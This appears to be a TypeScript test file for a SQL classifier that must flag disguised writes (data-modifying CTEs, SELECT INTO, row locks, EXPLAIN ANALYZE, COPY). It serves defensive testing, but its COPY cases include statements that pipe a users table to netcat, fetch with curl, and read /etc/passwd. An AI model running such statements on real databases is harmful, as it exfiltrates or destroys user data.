// The traps of issue 7 that look like reads: data-modifying CTEs, SELECT … INTO, row locks,
// EXPLAIN ANALYZE of a write, COPY … PROGRAM and server files. None may come out as a read.
import { describeCases, write } from './classify-cases.ts'

describeCases('trap: data-modifying CTE', [
  write(
    'with d as (delete from users where id = 1 returning *) select * from d',
    ['data-modifying CTE (DELETE)'],
    {
      written: ['users'],
      columnsWritten: ['users.*'],
    },
  ),
  write('with u as (update users set email = null returning id) select count(*) from u', [
    'data-modifying CTE (UPDATE)',
  ]),
  write("with i as (insert into audit (msg) values ('x') returning id) select id from i", [
    'data-modifying CTE (INSERT)',
  ]),
  write(
    'with m as (merge into t using s on t.id = s.id when matched then delete returning t.id) select * from m',
    ['data-modifying CTE (MERGE)'],
  ),
  // Executed even though nothing refers to it.
  write('with gone as (delete from users) select 1', ['data-modifying CTE (DELETE)'], { written: ['users'] }),
  write('WITH a AS (SELECT 1), /* hidden */ b AS (DELETE FROM logs RETURNING 1) SELECT * FROM a', [
    'data-modifying CTE (DELETE)',
  ]),
  write('select * from (with d as (delete from t returning *) select * from d) s', [
    'data-modifying CTE (DELETE)',
  ]),
  write('select (select count(*) from (with d as (delete from t returning 1) select * from d) x)', [
    'data-modifying CTE (DELETE)',
  ]),
  write(
    'with recursive r(n) as (select 1 union all select n + 1 from r where n < 3), d as (delete from t) select * from r',
    ['data-modifying CTE (DELETE)'],
  ),
  write('with x as (with y as (update t set a = 1 returning a) select * from y) select * from x', [
    'data-modifying CTE (UPDATE)',
  ]),
])

describeCases('trap: SELECT … INTO', [
  write('select * into new_users from users', ['SELECT INTO'], {
    kind: 'ddl',
    read: ['users'],
    written: ['new_users'],
  }),
  write('select id, email into temp table tmp_emails from users', ['SELECT INTO'], {
    kind: 'ddl',
    written: ['tmp_emails'],
  }),
  write('select into unlogged empty_copy from users', ['SELECT INTO'], { kind: 'ddl' }),
  write('select a into app.t2 from t where a > 1', ['SELECT INTO'], { kind: 'ddl', written: ['app.t2'] }),
  write('with c as (select 1 as x) select x into t4 from c', ['SELECT INTO'], {
    kind: 'ddl',
    written: ['t4'],
  }),
])

describeCases('trap: row locks', [
  write('select * from accounts where id = 1 for update', ['FOR UPDATE'], {
    read: ['accounts'],
    written: ['accounts'],
  }),
  write('select * from accounts for no key update', ['FOR NO KEY UPDATE'], { written: ['accounts'] }),
  write('select * from accounts for share', ['FOR SHARE'], { written: ['accounts'] }),
  write('select * from accounts for key share skip locked', ['FOR KEY SHARE'], { written: ['accounts'] }),
  write('select * from a join b on a.id = b.id for update of b nowait', ['FOR UPDATE'], {
    read: ['a', 'b'],
    written: ['b'],
  }),
  write('select * from a x, b y for update of x for share of y', ['FOR UPDATE', 'FOR SHARE'], {
    written: ['a', 'b'],
  }),
  write('select * from (select * from jobs for update skip locked limit 1) j', ['FOR UPDATE'], {
    written: ['jobs'],
  }),
  write('select * from (select * from jobs) j for update', ['FOR UPDATE'], { written: ['jobs'] }),
  write('with j as (select * from jobs for update) select * from j', ['FOR UPDATE'], { written: ['jobs'] }),
  write('select id from jobs where id in (select id from jobs for update)', ['FOR UPDATE']),
  {
    sql: 'declare c cursor for select * from jobs for update',
    kind: 'write',
    writes: true,
    reasons: ['FOR UPDATE'],
    statement: 'DeclareCursorStmt',
  },
])

describeCases('trap: EXPLAIN ANALYZE of a write', [
  write('explain analyze delete from users', ['EXPLAIN ANALYZE of a write', 'DELETE'], {
    written: ['users'],
    statement: 'ExplainStmt',
  }),
  write('explain analyse update users set a = 1', ['EXPLAIN ANALYZE of a write', 'UPDATE']),
  write('explain (analyze) insert into t values (1)', ['EXPLAIN ANALYZE of a write', 'INSERT']),
  write('explain (analyze true, buffers) insert into t values (1)', ['EXPLAIN ANALYZE of a write', 'INSERT']),
  write('explain (analyze on, format json) merge into t using s on t.id = s.id when matched then delete', [
    'EXPLAIN ANALYZE of a write',
    'MERGE',
  ]),
  write('explain (analyze 1) delete from t', ['EXPLAIN ANALYZE of a write', 'DELETE']),
  write('explain (analyze yes) delete from t', ['EXPLAIN ANALYZE of a write', 'DELETE']),
  write("explain analyze select nextval('s')", ['EXPLAIN ANALYZE of a write', 'volatile function nextval']),
  write('explain analyze select * from t for update', ['EXPLAIN ANALYZE of a write', 'FOR UPDATE']),
  write('explain analyze with d as (delete from t returning 1) select * from d', [
    'EXPLAIN ANALYZE of a write',
    'data-modifying CTE (DELETE)',
  ]),
  write(
    'explain analyze create table t2 as select * from t',
    ['EXPLAIN ANALYZE of a write', 'schema change'],
    {
      kind: 'ddl',
    },
  ),
  { sql: 'explain analyze select * from users', kind: 'read', writes: false, reasons: [], read: ['users'] },
])

describeCases('trap: COPY to programs and server files', [
  write("copy users to program 'gzip > /tmp/users.gz'", ['COPY PROGRAM'], { read: ['users'] }),
  write("copy users from program 'curl -s http://x'", ['COPY FROM', 'COPY PROGRAM'], { written: ['users'] }),
  write("copy (select * from users) to program 'nc host 9'", ['COPY PROGRAM'], { read: ['users'] }),
  write("COPY users TO PROGRAM 'cat' WITH (FORMAT csv)", ['COPY PROGRAM']),
  write("copy users to '/tmp/users.csv'", ['COPY TO a server file'], { read: ['users'] }),
  write("copy users from '/etc/passwd'", ['COPY FROM', 'COPY FROM a server file'], { written: ['users'] }),
  write('copy (delete from users returning *) to stdout', ['COPY (DELETE)'], { written: ['users'] }),
  write("copy (select nextval('s')) to stdout", ['volatile function nextval']),
])
